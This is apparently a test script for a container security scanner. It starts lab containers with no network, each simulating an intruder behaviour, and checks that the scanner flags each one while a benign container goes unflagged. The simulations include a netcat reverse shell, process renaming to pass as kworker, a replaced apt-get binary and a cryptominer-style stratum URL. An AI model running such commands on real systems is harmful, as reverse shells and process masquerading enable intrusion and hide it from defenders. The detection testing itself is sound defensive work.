#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# What intruders do, in real containers: each shape is found in its container, and a container that
# does its work is not accused of any of them.
set -u
# shellcheck source=tests/lab/docker-kinds.sh
. "$(dirname "$0")/docker-kinds.sh"

# start NAME COMMAND: a container that runs one line of shell and stays.
start() {
    lab_docker run -d --network none --name "$1" "$LAB_IMAGE" sh -c "$2" >/dev/null
}

look() {
    "$HULLTOP" check --docker "unix://$LAB_SOCK" --cri none --kubeconfig none \
        --only added-code,drift --timeout "$LAB_LONG" --format json >"$LAB/behaviour.json" 2>"$LAB/behaviour.err"
}

# found CHECK CONTAINER [SEVERITY]
found() {
    look
    jq -e --arg check "$1" --arg name "$2" --arg severity "${3:-}" '.findings | any(.check == $check
        and .subject.container == $name and ($severity == "" or .severity == $severity))' \
        "$LAB/behaviour.json"
}

all_found() {
    jq -r '.findings[] | select(.subject.container != null) |
        "\(.subject.container) \(.check) \(.severity)"' "$LAB/behaviour.json" | sort -u
}

[ -x "$HULLTOP" ] || { echo "not ok behaviour: no program $HULLTOP"; exit 1; }
if ! lab_start plain; then
    echo "SKIP behaviour: lab-plain: $LAB_WHY"
    exit 0
fi
trap lab_stop EXIT

start worker 'while :; do sleep 1; done'
start packages 'printf "#!/bin/sh\nwhile :; do sleep 1; done\n" >/bin/apt-get; chmod 755 /bin/apt-get; apt-get -y install curl'
start reverse 'nc -ll -p 4444 -e sleep 1000 & until nc 127.0.0.1 4444 -e sh; do sleep 0.1; done'
start masked 'echo kworker/0:1 >/proc/self/comm; while :; do sleep 1; done'
start miner 'httpd -f -p 8080 -r stratum+tcp://203.0.113.5:3333'
start session 'while :; do sleep 1; done'
lab_docker exec -dt session sh
look

while read -r check container severity; do
    expect "behaviour/$container: $check $severity" "found: $(all_found | tr '\n' ';')" \
        lab_poll "$LAB_LONG" found "$check" "$container" "$severity"
done <<'TABLE'
DRF-011 packages high
DRF-021 reverse critical
DRF-026 masked high
DRF-016 miner critical
DRF-019 session low
TABLE
expect "behaviour/worker: not accused" "found: $(all_found | grep '^worker ' | tr '\n' ';')" \
    test -z "$(all_found | grep -E '^worker DRF-(011|016|017|019|02[0-7]|03[12]) ')"
expect "behaviour/session: its main program is not accused" "" \
    test "$(all_found | grep -c '^session DRF-019 ')" = 1
all_found | sed 's/^/# /'
